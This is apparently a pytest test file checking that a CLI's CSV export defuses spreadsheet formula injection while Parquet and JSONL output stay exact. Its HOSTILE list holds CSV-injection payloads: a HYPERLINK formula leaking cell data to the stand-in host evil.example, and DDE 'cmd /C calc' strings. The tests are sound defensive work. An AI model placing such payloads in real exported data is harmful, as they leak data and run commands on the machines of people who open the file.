"""`evalkit export`: CSV cells a spreadsheet would run as formulas are neutralised; Parquet and JSONL stay exact.

The run is stored in a real SQLite run store and exported by id through the CLI, so the
read goes through the store's read-only connection as a user's would.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from evalkit.cli import main
from evalkit.commands.report import FORMULA_TRIGGERS
from evalkit.store import RunStore
from evalkit.testing.tiny_model import synthetic_run

# OWASP's CSV-injection examples and their neighbours: each starts with a trigger character.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["plain text", "'already quoted", " =leading space is text"]


@pytest.fixture
def stored_run(tmp_path: Path) -> tuple[Path, str]:
    """A run whose predictions, references and prompts are hostile, saved in a real store."""
    run = synthetic_run(12, candidates=("base", "lora"), judged_items=0, with_comparison=False)
    items = run.candidate("base").items
    for item, text in zip(items, HOSTILE + SAFE, strict=False):
        item.prediction = text
    items[0].expected = HOSTILE[1]
    items[1].prompt = HOSTILE[0]
    store = tmp_path / "store.db"
    with RunStore(store) as run_store:
        run_id = run_store.save_run(run)
    return store, run_id


def _export(store: Path, run_id: str, out: Path) -> None:
    assert main(["export", run_id, "--store", str(store), "--out", str(out)]) == 0


def test_csv_cells_that_would_be_formulas_get_a_leading_quote(stored_run: tuple[Path, str], tmp_path: Path) -> None:
    store, run_id = stored_run
    out = tmp_path / "items.csv"
    _export(store, run_id, out)
    with open(out, encoding="utf-8", newline="") as handle:  # CRs in cells kept as written
        rows = list(csv.DictReader(handle))
    cells = [row[column] for row in rows for column in ("prompt", "expected", "prediction")]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    predictions = [row["prediction"] for row in rows if row["candidate"] == "base"]
    for text in HOSTILE:
        assert "'" + text in predictions  # the same text, shown as text
    for text in SAFE:
        assert text in predictions  # nothing else changes
    assert "'" + HOSTILE[1] in [row["expected"] for row in rows]
    assert "'" + HOSTILE[0] in [row["prompt"] for row in rows]
    # Numbers stay numbers: every metric column still parses as a number.
    frame = pd.read_csv(out)
    assert all(pd.api.types.is_numeric_dtype(frame[c]) for c in frame.columns
               if c.startswith("exact_match") and not c.endswith(".reason"))  # reasons are exported beside them


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_parquet_and_jsonl_keep_every_text_exactly(stored_run: tuple[Path, str], tmp_path: Path, fmt: str) -> None:
    store, run_id = stored_run
    out = tmp_path / f"items.{fmt}"
    _export(store, run_id, out)
    if fmt == "parquet":
        predictions = list(pd.read_parquet(out)["prediction"])
    else:
        predictions = [json.loads(line)["prediction"] for line in out.read_text(encoding="utf-8").splitlines()]
    for text in HOSTILE + SAFE:
        assert text in predictions
    assert not [p for p in predictions if isinstance(p, str) and p.startswith("'=")]


def test_export_to_an_existing_directory_is_a_usage_error_naming_it(
        stored_run: tuple[Path, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store, run_id = stored_run
    target = tmp_path / "exports"
    target.mkdir()
    assert main(["export", run_id, "--store", str(store), "--out", str(target)]) == 2
    err = capsys.readouterr().err.strip()
    assert str(target) in err and "is a directory" in err and "\n" not in err
    assert list(target.iterdir()) == []
